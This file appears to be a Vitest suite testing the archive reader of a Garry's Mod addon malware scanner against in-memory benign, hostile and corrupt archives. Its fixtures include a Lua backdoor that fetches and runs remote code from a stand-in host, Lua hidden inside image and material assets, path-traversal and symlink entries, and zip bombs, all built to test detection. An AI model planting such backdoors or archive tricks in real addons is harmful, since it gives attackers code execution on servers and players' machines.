// The archive layer against well-formed, hostile and broken archives built in memory.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildBsp, buildGma, buildPeModule, buildZip } from './archiveFixtures.js';
import {
  DEFAULT_ARCHIVE_LIMITS,
  readArchive,
  UnusableArchiveError,
  type ArchiveContents,
} from './index.js';

const MiB = 1024 * 1024;
const text = (s: string): Uint8Array => new TextEncoder().encode(s);
const entry = (contents: ArchiveContents, path: string) =>
  contents.entries.find((e) => e.path === path);
const kinds = (contents: ArchiveContents) => contents.findings.map((f) => f.kind);

async function unusable(input: Uint8Array | string, limits = {}): Promise<UnusableArchiveError> {
  const err = await readArchive(input, limits).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(UnusableArchiveError);
  return err as UnusableArchiveError;
}

const BACKDOOR_LUA = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end)\n';

describe('DEFAULT_ARCHIVE_LIMITS', () => {
  it('matches the product limits', () => {
    expect(DEFAULT_ARCHIVE_LIMITS).toEqual({
      maxArchiveBytes: 1024 * MiB,
      maxEntries: 100_000,
      maxTotalInflatedBytes: 2048 * MiB,
      maxTextEntryBytes: 64 * MiB,
      maxNestingDepth: 3,
    });
  });
});

describe('readArchive on an ordinary addon', () => {
  const hud = 'local x = 1\nhook.Add("Think", "a", function() end)\n';
  const zip = zipSync({
    'lua/': {},
    'lua/autorun/server/sv_hud.lua': text(hud),
    'materials/crate/glow.vmt': text(`"UnlitGeneric"\n{\n}\n${BACKDOOR_LUA}`),
    'materials/crate/diffuse.vmt': text(
      '"VertexLitGeneric"\n{\n\t"$basetexture" "models/crate"\n}\n',
    ),
    'readme.txt': text(
      'This addon uses RunString for nothing. The end of the local function list.\n',
    ),
    'lua/bin/gmsv_chttp_win32.dll': buildPeModule(['gmod13_open', 'https://loader.invalid/s.php']),
    'materials/crate/crate.png': new Uint8Array([
      0x89,
      0x50,
      0x4e,
      0x47,
      0,
      0,
      0,
      13,
      ...new Array(5000).fill(0),
    ]),
    'data/config.json': text('{"enabled": true, "name": "crate"}'),
  });

  it('classifies files by content and keeps only what the analysis needs', async () => {
    const contents = await readArchive(zip);
    expect(contents.fileCount).toBe(7);
    expect(contents.findings).toEqual([]);
    expect(contents.limitsReached).toEqual([]);
    expect(contents.sha256).toBe(createHash('sha256').update(zip).digest('hex'));

    const lua = entry(contents, 'lua/autorun/server/sv_hud.lua')!;
    expect(lua).toMatchObject({ kind: 'lua', depth: 0, size: hud.length });
    expect(new TextDecoder().decode(lua.bytes)).toContain('hook.Add');
    expect(lua.sha256).toMatch(/^[0-9a-f]{64}$/);

    expect(entry(contents, 'materials/crate/glow.vmt')?.kind).toBe('lua_in_asset');
    expect(entry(contents, 'materials/crate/diffuse.vmt')?.kind).toBe('text');
    expect(entry(contents, 'readme.txt')?.kind).toBe('text');
    expect(entry(contents, 'data/config.json')?.kind).toBe('text');

    const module = entry(contents, 'lua/bin/gmsv_chttp_win32.dll')!;
    expect(module.kind).toBe('binary_module');
    expect(module.strings).toEqual(
      expect.arrayContaining(['gmod13_open', 'https://loader.invalid/s.php']),
    );
    expect(module.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(module.bytes).toBeUndefined();

    const png = entry(contents, 'materials/crate/crate.png')!;
    expect(png).toMatchObject({ kind: 'asset', size: 5008 });
    expect(png.bytes).toBeUndefined();
  });

  it('recognises native code by its header whatever its name', async () => {
    const elf = new Uint8Array([
      0x7f,
      0x45,
      0x4c,
      0x46,
      2,
      1,
      1,
      0,
      ...text('\0\0\0hidden_payload_string\0'),
    ]);
    const contents = await readArchive(zipSync({ 'sound/ambience.wav': elf }));
    expect(contents.entries[0]).toMatchObject({
      kind: 'binary_module',
      strings: ['hidden_payload_string'],
    });
  });

  it('finds Lua appended to a binary asset (GB-014)', async () => {
    const noise = new Uint8Array(3000).map((_, i) => ((i * 7) % 256) | 0x80);
    const payload = text(
      `\n${BACKDOOR_LUA}${'-- padding comment to make the run long enough\n'.repeat(2)}`,
    );
    const contents = await readArchive(
      zipSync({ 'materials/logo.png': new Uint8Array([...noise, ...payload, 0, ...noise]) }),
    );
    const logo = entry(contents, 'materials/logo.png')!;
    expect(logo.kind).toBe('lua_in_asset');
    expect(new TextDecoder().decode(logo.bytes)).toContain('RunString(b)');
  });

  it('keeps a .lua file as Lua even when it is binary garbage', async () => {
    const contents = await readArchive(
      zipSync({ 'lua/autorun/x.lua': new Uint8Array([0x1b, 0x4c, 0x4a, 0, 0, 1, 2]) }),
    );
    expect(contents.entries[0]).toMatchObject({ kind: 'lua', size: 7 });
  });
});

describe('readArchive on unusable input', () => {
  it('rejects bytes that are not an archive', async () => {
    expect((await unusable(text('just some text, no zip here'))).code).toBe('not_zip');
  });

  it('rejects empty input and an archive with no files', async () => {
    expect((await unusable(new Uint8Array(0))).code).toBe('empty');
    expect((await unusable(zipSync({ 'lua/': {} }))).code).toBe('empty');
  });

  it('rejects a truncated ZIP as corrupt', async () => {
    const zip = zipSync({
      'lua/a.lua': text(BACKDOOR_LUA.repeat(50)),
      'lua/b.lua': text('print(1)'),
    });
    expect((await unusable(zip.subarray(0, Math.floor(zip.length / 2)))).code).toBe('corrupt');
  });

  it('rejects a ZIP whose central directory is broken as corrupt', async () => {
    const zip = Buffer.from(
      zipSync({ 'lua/a.lua': text('print(1)'), 'lua/b.lua': text('print(2)') }),
    );
    const central = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    zip.writeUInt32LE(0xdeadbeef, central);
    expect((await unusable(zip)).code).toBe('corrupt');
  });

  it('rejects an archive over the size limit', async () => {
    const zip = zipSync({ 'a.lua': text('print(1)') });
    expect((await unusable(zip, { maxArchiveBytes: 10 })).code).toBe('too_large');
  });
});

describe('readArchive on hostile entries', () => {
  it('reports path traversal and absolute names and analyses them under the normalised name', async () => {
    const contents = await readArchive(
      buildZip([
        { name: '../../lua/autorun/server/evil.lua', data: BACKDOOR_LUA },
        { name: '/etc/cron.d/job.lua', data: BACKDOOR_LUA },
        { name: 'C:\\Windows\\evil.lua', data: BACKDOOR_LUA },
      ]),
    );
    expect(contents.entries.map((e) => [e.path, e.kind])).toEqual([
      ['lua/autorun/server/evil.lua', 'lua'],
      ['etc/cron.d/job.lua', 'lua'],
      ['Windows/evil.lua', 'lua'],
    ]);
    expect(contents.findings).toEqual([
      expect.objectContaining({ kind: 'path_traversal', path: 'lua/autorun/server/evil.lua' }),
      expect.objectContaining({ kind: 'absolute_path', path: 'etc/cron.d/job.lua' }),
      expect.objectContaining({ kind: 'absolute_path', path: 'Windows/evil.lua' }),
    ]);
  });

  it('reports an encrypted entry without reading it', async () => {
    const contents = await readArchive(
      buildZip([
        { name: 'lua/secret.lua', data: 'garbage-ciphertext', method: 'store', flags: 0x1 },
        { name: 'lua/ok.lua', data: 'print(1)' },
      ]),
    );
    expect(contents.fileCount).toBe(2);
    expect(contents.entries.map((e) => e.path)).toEqual(['lua/ok.lua']);
    expect(contents.findings).toEqual([
      expect.objectContaining({ kind: 'encrypted_entry', path: 'lua/secret.lua' }),
    ]);
  });

  it('reports a symlink entry and does not follow it', async () => {
    const contents = await readArchive(
      buildZip([
        { name: 'lua/link.lua', data: '/etc/passwd', method: 'store', unixMode: 0o120777 },
        { name: 'lua/ok.lua', data: 'print(1)', unixMode: 0o100644 },
      ]),
    );
    expect(contents.entries.map((e) => e.path)).toEqual(['lua/ok.lua']);
    expect(contents.findings).toEqual([
      expect.objectContaining({ kind: 'symlink', path: 'lua/link.lua' }),
    ]);
  });

  it('refuses overlapping entries: the shared bytes are inflated once', async () => {
    const kernel = new Uint8Array(4 * MiB);
    const entries = [
      { name: 'k/0.bin', data: kernel },
      ...Array.from({ length: 500 }, (_, i) => ({ name: `k/${i + 1}.bin`, shareLocalHeaderOf: 0 })),
    ];
    const contents = await readArchive(buildZip(entries));
    expect(contents.fileCount).toBe(501);
    expect(contents.entries).toHaveLength(1);
    expect(contents.findings).toEqual([
      expect.objectContaining({ kind: 'overlapping_entries', path: 'k/1.bin' }),
    ]);
    expect(contents.findings[0]!.detail).toMatch(/^500 entries/);
  });

  it('stops a high-ratio entry (zip bomb) cleanly', async () => {
    const started = performance.now();
    const contents = await readArchive(
      buildZip([
        { name: 'sound/silence.wav', data: new Uint8Array(48 * MiB) },
        { name: 'lua/a.lua', data: 'print(1)' },
      ]),
    );
    expect(kinds(contents)).toEqual(['zip_bomb']);
    expect(entry(contents, 'sound/silence.wav')!.size).toBeLessThanOrEqual(48 * MiB);
    expect(entry(contents, 'lua/a.lua')?.kind).toBe('lua');
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  it('cuts an entry that inflates past its declared size', async () => {
    const contents = await readArchive(
      buildZip([{ name: 'lua/a.lua', data: 'x'.repeat(100_000), declaredSize: 10 }]),
    );
    expect(entry(contents, 'lua/a.lua')).toMatchObject({ size: 10 });
    expect(entry(contents, 'lua/a.lua')!.bytes).toHaveLength(10);
    expect(kinds(contents)).toEqual(['zip_bomb']);
  });

  it('stops the whole read at the total-inflated limit', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => [`models/m${i}.mdl`, new Uint8Array(MiB).fill(i + 1)]),
    );
    const contents = await readArchive(zipSync(files), { maxTotalInflatedBytes: 5 * MiB });
    expect(contents.limitsReached).toEqual(['maxTotalInflatedBytes']);
    expect(contents.entries.length).toBeLessThanOrEqual(6);
    expect(contents.entries.reduce((n, e) => n + e.size, 0)).toBeLessThanOrEqual(5 * MiB);
  });

  it('survives a nested zip bomb within the limits', async () => {
    const layer0 = zipSync({ 'zeros.bin': new Uint8Array(16 * MiB) }, { level: 9 });
    const layer1 = zipSync(
      Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`l0_${i}.zip`, layer0])),
      { level: 0 },
    );
    const layer2 = zipSync(
      Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`l1_${i}.zip`, layer1])),
      { level: 9 },
    );
    const started = performance.now();
    const contents = await readArchive(layer2, { maxTotalInflatedBytes: 256 * MiB });
    expect(contents.limitsReached).toContain('maxTotalInflatedBytes');
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(
      contents.entries.some((e) => e.path === 'l1_0.zip/l0_0.zip/zeros.bin' && e.depth === 2),
    ).toBe(true);
  });

  it('opens nested archives to depth 3 and reports deeper ones', async () => {
    let inner: Uint8Array = zipSync({ 'lua/level4.lua': text('print(4)') });
    for (let level = 3; level >= 0; level--) {
      inner = zipSync({
        [`lua/level${level}.lua`]: text(`print(${level})`),
        [`n${level + 1}.zip`]: inner,
      });
    }
    const contents = await readArchive(inner);
    const lua = contents.entries.filter((e) => e.kind === 'lua').map((e) => [e.path, e.depth]);
    expect(lua).toEqual([
      ['lua/level0.lua', 0],
      ['n1.zip/lua/level1.lua', 1],
      ['n1.zip/n2.zip/lua/level2.lua', 2],
      ['n1.zip/n2.zip/n3.zip/lua/level3.lua', 3],
    ]);
    expect(contents.findings).toEqual([
      expect.objectContaining({ kind: 'nested_too_deep', path: 'n1.zip/n2.zip/n3.zip/n4.zip' }),
    ]);
  });

  it('reads 100 000 tiny entries, and stops cleanly one past the limit', async () => {
    const many = (n: number) =>
      buildZip(
        Array.from({ length: n }, (_, i) => ({
          name: `m/${i}.mdl`,
          data: 'x',
          method: 'store' as const,
        })),
      );
    let started = performance.now();
    const full = await readArchive(many(100_000));
    expect(full.fileCount).toBe(100_000);
    expect(full.limitsReached).toEqual([]);
    expect(performance.now() - started).toBeLessThan(30_000);

    started = performance.now();
    const over = await readArchive(many(1_001), { maxEntries: 1_000 });
    expect(over.fileCount).toBe(1_000);
    expect(over.limitsReached).toEqual(['maxEntries']);
  });

  it('cuts a text entry at the per-entry limit', async () => {
    const contents = await readArchive(
      zipSync({ 'lua/big.lua': text('-- filler\n'.repeat(10_000)) }),
      { maxTextEntryBytes: 1000 },
    );
    expect(entry(contents, 'lua/big.lua')!.bytes).toHaveLength(1000);
    expect(contents.limitsReached).toEqual(['maxTextEntryBytes']);
  });

  it('stops with a ScanCancelledError when cancelled between entries', async () => {
    let asked = 0;
    const err = await readArchive(
      zipSync({ 'a.lua': text('print(1)'), 'b.lua': text('print(2)') }),
      {},
      { isCancelled: () => ++asked > 1 },
    ).catch((e: unknown) => e);
    expect((err as Error).name).toBe('ScanCancelledError');
  });
});

describe('readArchive on Garry’s Mod formats', () => {
  const gma = buildGma([
    { name: 'lua/autorun/server/sv_tags.lua', data: BACKDOOR_LUA },
    { name: 'materials/tags/icon.vmt', data: '"UnlitGeneric"\n{\n}\n' },
    { name: '../outside.lua', data: 'print(1)' },
  ]);

  it('opens a .gma inside a zip', async () => {
    const contents = await readArchive(
      zipSync({ 'addons/tags.gma': gma, 'readme.txt': text('hello') }),
    );
    expect(contents.entries.map((e) => [e.path, e.kind, e.depth])).toEqual(
      expect.arrayContaining([
        ['addons/tags.gma', 'asset', 0],
        ['addons/tags.gma/lua/autorun/server/sv_tags.lua', 'lua', 1],
        ['addons/tags.gma/materials/tags/icon.vmt', 'text', 1],
        ['addons/tags.gma/outside.lua', 'lua', 1],
      ]),
    );
    expect(
      new TextDecoder().decode(
        entry(contents, 'addons/tags.gma/lua/autorun/server/sv_tags.lua')!.bytes,
      ),
    ).toBe(BACKDOOR_LUA);
    expect(contents.findings).toEqual([
      expect.objectContaining({ kind: 'path_traversal', path: 'addons/tags.gma/outside.lua' }),
    ]);
    expect(contents.fileCount).toBe(5);
  });

  it('reads a .gma given directly', async () => {
    const contents = await readArchive(gma);
    expect(contents.entries.map((e) => e.path)).toEqual([
      'lua/autorun/server/sv_tags.lua',
      'materials/tags/icon.vmt',
      'outside.lua',
    ]);
  });

  it('reports a broken .gma as a finding and keeps reading', async () => {
    const truncatedTable = gma.subarray(0, 60);
    const shortContents = buildGma([
      { name: 'lua/a.lua', data: 'print(1)' },
      { name: 'lua/b.lua', data: 'print(2)', declaredSize: 5000 },
    ]);
    const contents = await readArchive(
      zipSync({
        'one.gma': truncatedTable,
        'two.gma': shortContents,
        'three.gma': text('GMAD garbage'),
        'lua/ok.lua': text('print(0)'),
      }),
    );
    expect(contents.findings.map((f) => [f.kind, f.path])).toEqual([
      ['corrupt_entry', 'one.gma'],
      ['corrupt_entry', 'two.gma'],
      ['corrupt_entry', 'three.gma'],
    ]);
    expect(entry(contents, 'two.gma/lua/a.lua')?.kind).toBe('lua');
    expect(entry(contents, 'lua/ok.lua')?.kind).toBe('lua');
  });

  it('rejects a broken top-level .gma as corrupt', async () => {
    expect((await unusable(gma.subarray(0, 40))).code).toBe('corrupt');
  });

  it('keeps the entity lump of a real-shaped map', async () => {
    const bsp = readFileSync(
      '/work/shared/samples/malicious/mal-27-harbor-map-luarun/maps/rp_harbor_v2.bsp',
    );
    const contents = await readArchive(zipSync({ 'maps/rp_harbor_v2.bsp': bsp }));
    const map = entry(contents, 'maps/rp_harbor_v2.bsp')!;
    expect(map.kind).toBe('map');
    expect(map.size).toBe(bsp.length);
    expect(map.mapEntities).toContain('"classname" "worldspawn"');
    expect(map.mapEntities).toContain('lua_run');
    expect(map.bytes).toBeUndefined();
  });

  it('opens the pakfile lump of a map', async () => {
    const pak = buildZip([
      { name: 'lua/autorun/map_helper.lua', data: BACKDOOR_LUA, method: 'store' },
    ]);
    const bsp = buildBsp('{\n"classname" "lua_run"\n"Code" "print(1)"\n}\n', pak);
    const contents = await readArchive(zipSync({ 'maps/gm_x.bsp': bsp }));
    expect(entry(contents, 'maps/gm_x.bsp')?.mapEntities).toContain('lua_run');
    expect(entry(contents, 'maps/gm_x.bsp/lua/autorun/map_helper.lua')).toMatchObject({
      kind: 'lua',
      depth: 1,
    });
  });

  it('reports a map whose header lies', async () => {
    const bsp = buildBsp('{}');
    bsp.writeInt32LE(-5, 12);
    const contents = await readArchive(zipSync({ 'maps/bad.bsp': bsp }));
    expect(contents.findings.map((f) => f.kind)).toEqual(['corrupt_entry']);
    expect(contents.entries).toHaveLength(1);
  });
});

describe('readArchive on damaged bytes', () => {
  it('never fails with anything but UnusableArchiveError, whatever bytes are flipped', async () => {
    const gma = buildGma([
      { name: 'lua/a.lua', data: BACKDOOR_LUA.repeat(20) },
      { name: 'm/x.vmt', data: '"x" {}' },
    ]);
    const bsp = buildBsp(
      '{\n"classname" "lua_run"\n}\n',
      buildZip([{ name: 'lua/p.lua', data: 'print(1)' }]),
    );
    const original = zipSync({
      'lua/autorun/a.lua': text(BACKDOOR_LUA.repeat(30)),
      'addon.gma': gma,
      'maps/m.bsp': bsp,
      'inner.zip': zipSync({
        'lua/b.lua': text('print(2)'),
        'lua/bin/gmsv_x.dll': buildPeModule(['abcdefg']),
      }),
    });
    let seed = 12345;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    const outcomes = { read: 0, unusable: 0 };
    for (let round = 0; round < 200; round++) {
      // Odd rounds damage a bare .gma, even rounds the zip that holds everything.
      const damaged = Buffer.from(round % 2 === 1 ? gma : original);
      const flips = 1 + random(8);
      for (let i = 0; i < flips; i++) damaged[random(damaged.length)] = random(256);
      if (round % 10 === 0) damaged.fill(0, random(damaged.length));
      try {
        await readArchive(damaged);
        outcomes.read++;
      } catch (err) {
        expect(err).toBeInstanceOf(UnusableArchiveError);
        outcomes.unusable++;
      }
    }
    expect(outcomes.read).toBeGreaterThan(0);
    expect(outcomes.unusable).toBeGreaterThan(0);
  });
});
